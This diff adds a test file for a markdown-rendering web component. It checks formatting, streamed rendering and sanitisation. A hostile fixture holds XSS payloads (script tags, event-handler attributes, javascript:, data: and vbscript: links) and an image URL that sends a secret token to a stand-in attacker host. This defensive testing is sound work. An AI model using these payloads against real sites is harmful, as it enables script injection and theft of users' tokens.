@@ -1,0 +1,100 @@
+import { expect, fixture, html } from '@open-wc/testing';
+import { deepElements } from '../../test-support/settle.js';
+import { requestedUrls } from '../../test-support/dom.js';
+import './define.js';
+import type { AnswerMarkdown } from './markdown.js';
+
+const document_ = `# Findings
+
+Pump **4** runs _below_ design flow; see [the log](https://example.com/log?id=4) and <https://example.com/b>.
+
+- valve \`V-12\` stuck
+- replaced on 2 May
+  1. ordered
+  2. fitted
+
+> Quoted note
+
+\`\`\`sql
+select * from flows where site = 'P4';
+\`\`\`
+
+| Site | Flow |
+|:-----|-----:|
+| P4   | 412  |
+`;
+
+const hostile = `<script>window.__pwned = 1</script>
+<img src="https://attacker.example/pixel.png" onerror="window.__pwned = 2">
+[click](javascript:window.__pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)
+![exfil](https://attacker.example/collect?q=secret-token)
+<a href="javascript:alert(1)" onclick="window.__pwned=4">html link</a>
+<svg onload="window.__pwned=5"></svg><iframe src="https://attacker.example"></iframe>
+[ref link][r]
+
+[r]: https://attacker.example/ref?q=secret
+`;
+
+async function streamed(text: string, step: number): Promise<AnswerMarkdown> {
+  const el = await fixture<AnswerMarkdown>(html`<answer-markdown></answer-markdown>`);
+  for (let i = step; i < text.length + step; i += step) {
+    el.text = text.slice(0, i);
+    await el.updateComplete;
+  }
+  return el;
+}
+
+describe('answer-markdown', () => {
+  it('renders headings, lists, code, quotes, tables and safe links', async () => {
+    const el = await fixture<AnswerMarkdown>(html`<answer-markdown .text=${document_}></answer-markdown>`);
+    const root = el.shadowRoot!;
+    expect(root.querySelector('h3')!.textContent).to.equal('Findings');
+    expect(root.querySelector('strong')!.textContent).to.equal('4');
+    expect(root.querySelectorAll('ul > li')).to.have.length(2);
+    expect(root.querySelectorAll('ol > li')).to.have.length(2);
+    expect(root.querySelector('pre code')!.textContent).to.equal("select * from flows where site = 'P4';");
+    expect(root.querySelector('blockquote')!.textContent!.trim()).to.equal('Quoted note');
+    expect([...root.querySelectorAll('td')].map((td) => td.textContent)).to.deep.equal(['P4', '412']);
+    const links = [...root.querySelectorAll('a')];
+    expect(links.map((a) => a.href)).to.deep.equal(['https://example.com/log?id=4', 'https://example.com/b']);
+    for (const a of links) {
+      expect(a.rel).to.equal('noopener noreferrer');
+      expect(a.target).to.equal('_blank');
+    }
+    await expect(el).to.be.accessible();
+  });
+
+  it('streamed in small deltas, it shows exactly what the whole text shows', async () => {
+    const whole = await fixture<AnswerMarkdown>(html`<answer-markdown .text=${document_}></answer-markdown>`);
+    for (const step of [1, 7, 64]) {
+      const el = await streamed(document_, step);
+      expect(el.shadowRoot!.querySelector('.content')!.textContent).to.equal(whole.shadowRoot!.querySelector('.content')!.textContent);
+      expect(el.shadowRoot!.querySelectorAll('*').length).to.equal(whole.shadowRoot!.querySelectorAll('*').length + el.shadowRoot!.querySelectorAll('.content > div').length - whole.shadowRoot!.querySelectorAll('.content > div').length);
+    }
+  });
+
+  it('starts over when the text is replaced rather than extended', async () => {
+    const el = await fixture<AnswerMarkdown>(html`<answer-markdown .text=${'First paragraph.\n\nSecond.'}></answer-markdown>`);
+    el.text = 'Other text.';
+    await el.updateComplete;
+    expect(el.shadowRoot!.querySelector('.content')!.textContent!.trim()).to.equal('Other text.');
+  });
+
+  it('renders hostile markdown inert: no script, no handler, no image, no request', async () => {
+    const before = requestedUrls().length;
+    const el = await streamed(hostile, 5);
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    const elements = deepElements(el.shadowRoot!);
+    expect(elements.filter((e) => ['script', 'img', 'iframe', 'svg', 'object', 'embed'].includes(e.localName))).to.deep.equal([]);
+    expect(elements.flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')))).to.deep.equal([]);
+    const hrefs = elements.filter((e): e is HTMLAnchorElement => e.localName === 'a').map((a) => a.href);
+    expect(hrefs.every((href) => href.startsWith('https:'))).to.equal(true);
+    // Only http(s) URLs become links (bare URLs are linked, as in GFM); none is ever fetched.
+    expect(hrefs).to.include('https://attacker.example/collect?q=secret-token');
+    expect(hrefs.some((href) => /javascript|data:|vbscript/.test(href))).to.equal(false);
+    expect((window as { __pwned?: number }).__pwned).to.equal(undefined);
+    expect(requestedUrls().slice(before).filter((url) => url.includes('attacker'))).to.deep.equal([]);
+    const text = el.shadowRoot!.textContent!;
+    expect(text).to.include('<script>').and.include('[Image: exfil]').and.include('[ref link][r]');
+  });
+});
